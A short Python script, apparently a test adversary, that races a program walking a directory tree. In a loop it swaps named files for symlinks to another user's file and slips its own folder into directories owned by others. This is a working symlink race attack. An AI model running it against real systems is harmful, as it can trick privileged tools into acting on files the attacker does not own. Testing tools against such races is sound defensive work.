"""Somebody who swaps a file for a link, and moves a folder of its own into a tree, as fast as it can.

Arguments: the tree, a folder of its own outside, and a file of somebody else's. It says "ready", and goes on until it
is killed.
"""

import os
import sys

tree, own, file = sys.argv[1:]
held = [os.open(path, os.O_RDONLY) for path, _, _ in os.walk(tree)]
outside = os.open(own, os.O_RDONLY)


def attempt(act, *arguments, **options):
    try:
        act(*arguments, **options)
    except OSError:
        pass


for name in "xy":
    attempt(os.symlink, file, name, dir_fd=outside)
print("ready", flush=True)


def swap(descriptor):
    for name in "abcdefgh":
        places = {"src_dir_fd": descriptor, "dst_dir_fd": descriptor}
        attempt(os.rename, name, name + "~", **places)
        attempt(os.symlink, file, name, dir_fd=descriptor)
        attempt(os.rename, name + "~", name, **places)


while True:
    for descriptor in held:
        # Where a first walk has passed and the folder still lets it in, a second one meets it.
        if os.fstat(descriptor).st_uid != os.getuid():
            attempt(os.rename, own, "guest", dst_dir_fd=descriptor)
    swap(outside)
    for descriptor in held:
        swap(descriptor)
